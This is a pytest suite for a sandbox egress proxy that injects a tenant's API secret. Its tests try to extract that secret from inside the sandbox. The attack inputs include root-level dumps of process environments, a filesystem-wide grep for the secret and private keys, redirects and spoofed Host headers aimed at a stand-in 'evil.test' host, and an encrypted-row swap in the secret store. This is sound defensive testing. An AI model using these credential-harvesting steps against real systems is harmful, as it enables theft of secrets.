"""Attempts to read a tenant's secret from inside a sandbox whose egress proxy injects it. The
secret (tests.egress.fixtures.SECRET) is bound to ``api.example.test`` for tenant ``acme``;
every test attacks from a real sandbox and checks that the value never shows up."""

from __future__ import annotations

import hashlib
import sqlite3

import pytest

from sandhold.egress.secrets import SecretKeyError, SecretStore
from tests.egress.fixtures import SECRET, TENANT
from tests.runtime.helpers import sh

AUTH_HASH = hashlib.sha256(f"Bearer {SECRET}".encode()).hexdigest()
NO_AUTH = None


async def test_not_in_the_environment_of_any_process(egress_sandbox):
    sbx = await egress_sandbox(allow=["api.example.test"])
    await sh(sbx, "curl -s --max-time 10 https://api.example.test/auth")  # a credential in use
    r = await sh(sbx, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'", user="root")
    assert SECRET not in r.text and "sk-test" not in r.text


async def test_not_in_any_file_or_process_memory_of_the_sandbox(egress_sandbox):
    sbx = await egress_sandbox(allow=["api.example.test"])
    await sh(sbx, "curl -s --max-time 10 https://api.example.test/auth")
    r = await sh(
        sbx,
        "grep -rlsI --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr "
        f"-e '{SECRET}' / ; for p in /proc/[0-9]*; do grep -ac '{SECRET}' $p/cmdline; "
        "done | sort -u; grep -c 'PRIVATE KEY' /run/sandhold-egress/*",
        user="root",
    )
    assert SECRET not in r.text
    assert "/" not in r.text.split("\n")[0]  # no file matched
    assert ":0" in r.text and ":1" not in r.text  # no private key is handed to the sandbox


async def test_the_host_side_is_invisible(egress_sandbox, egress_settings):
    sbx = await egress_sandbox(allow=["api.example.test"])
    d = egress_settings.data_dir
    r = await sh(
        sbx,
        f"ls {d}/egress 2>&1; cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' ' "
        "| grep -c '[s]andhold.egress.daemon'",
        user="root",
    )
    assert "No such file" in r.text and r.text.strip().endswith("0")


async def test_reflected_credential_is_blanked_out_of_the_response(egress_sandbox):
    sbx = await egress_sandbox(allow=["api.example.test"])
    r = await sh(sbx, "curl -s -i --max-time 10 https://api.example.test/echo-headers")
    assert "authorization: Bearer " + "*" * len(SECRET) in r.text.lower().replace(
        "bearer", "Bearer"
    )
    assert SECRET not in r.text


async def test_a_redirect_to_another_host_carries_no_credential(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test", "other.example.test"])
    mark = internet.mark()
    r = await sh(
        sbx,
        "curl -s -L --max-time 10 'https://api.example.test/redirect?"
        "to=https://other.example.test/auth'; echo; curl -s -L --max-time 10 "
        "'https://api.example.test/redirect?to=https://evil.test/auth'; echo rc=$?",
    )
    got = [(x["host"], x["auth_sha256"]) for x in internet.since(mark) if x["kind"] == "https"]
    assert ("api.example.test", AUTH_HASH) in got
    assert ("other.example.test", NO_AUTH) in got
    assert not [h for h, _ in got if h == "evil.test"]
    assert SECRET not in r.text


async def test_error_pages_and_audit_never_contain_it(egress_sandbox, egress_settings):
    sbx = await egress_sandbox(allow=["api.example.test"])
    r = await sh(
        sbx,
        "curl -s -i --max-time 10 -H 'Host: evil.test' "
        "https://api.example.test/auth; curl -s -i --max-time 10 "
        "https://api.example.test:443/%ZZ -X BREW; "
        "curl -s -i --max-time 10 http://evil.test/?q=$(printf x%.0s {1..300})",
    )
    assert "403" in r.text and SECRET not in r.text
    for f in (egress_settings.data_dir / "egress").rglob("*"):
        if f.is_file() and f.suffix in (".jsonl", ".log", ".json"):
            assert SECRET.encode() not in f.read_bytes(), f


async def test_plain_http_never_carries_it(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    r = await sh(sbx, "curl -s --max-time 10 http://api.example.test/auth")
    assert r.text == "auth-sha256=" + hashlib.sha256(b"").hexdigest()
    assert all(x["auth_sha256"] is None for x in internet.since(mark) if x["kind"] == "http")


async def test_another_tenants_sandbox_gets_nothing(egress_sandbox):
    sbx = await egress_sandbox(allow=["api.example.test"], tenant="other-tenant")
    r = await sh(sbx, "curl -s --max-time 10 https://api.example.test/auth")
    assert r.text == "auth-sha256=" + hashlib.sha256(b"").hexdigest()


async def test_a_wildcard_allow_does_not_widen_the_injection(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["*.example.test"])
    mark = internet.mark()
    await sh(sbx, "curl -s --max-time 10 https://cdn.example.test/auth")
    got = [x for x in internet.since(mark) if x["kind"] == "https"]
    assert got and got[0]["host"] == "cdn.example.test" and got[0]["auth_sha256"] is None


async def test_the_sandbox_cannot_override_or_read_back_the_header(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    r = await sh(
        sbx,
        "curl -s --max-time 10 -H 'Authorization: Bearer mine' "
        "-H 'authorization: Basic x' https://api.example.test/auth",
    )
    assert r.text == f"auth-sha256={AUTH_HASH}"  # replaced, exactly once
    assert [x["auth_sha256"] for x in internet.since(mark) if x["kind"] == "https"] == [AUTH_HASH]


async def test_no_credential_over_an_unverified_upstream(
    egress_sandbox, internet, secret_store: SecretStore
):
    # spoofed.example.test resolves to a server whose certificate does not name it (a hijacked
    # DNS record): the proxy verifies the upstream before it sends the credential.
    secret_store.set(TENANT, "spoof", SECRET, ["spoofed.example.test"])
    try:
        sbx = await egress_sandbox(mode="open")
        mark = internet.mark()
        r = await sh(sbx, "curl -s -i --max-time 10 https://spoofed.example.test/auth")
        assert "502 Bad Gateway" in r.text and "TLS to spoofed.example.test failed" in r.text
        assert [x for x in internet.since(mark) if x["kind"] == "https"] == []
    finally:
        secret_store.remove(TENANT, "spoof")


def test_the_store_holds_no_plaintext_and_rows_cannot_be_swapped(secret_store: SecretStore):
    raw = secret_store.path.read_bytes()
    assert SECRET.encode() not in raw
    secret_store.set("mallory", "api-token", "mallory-value-123", ["evil.test"])
    try:
        with sqlite3.connect(secret_store.path) as db:
            victim = db.execute(
                "SELECT nonce, ciphertext, key_id FROM secrets WHERE tenant=?", (TENANT,)
            ).fetchone()
            db.execute(
                "UPDATE secrets SET nonce=?, ciphertext=?, key_id=? WHERE tenant=?",
                (*victim, "mallory"),
            )
        with pytest.raises(SecretKeyError, match="does not decrypt"):
            secret_store.injections("mallory", "evil.test")
    finally:
        secret_store.remove("mallory", "api-token")
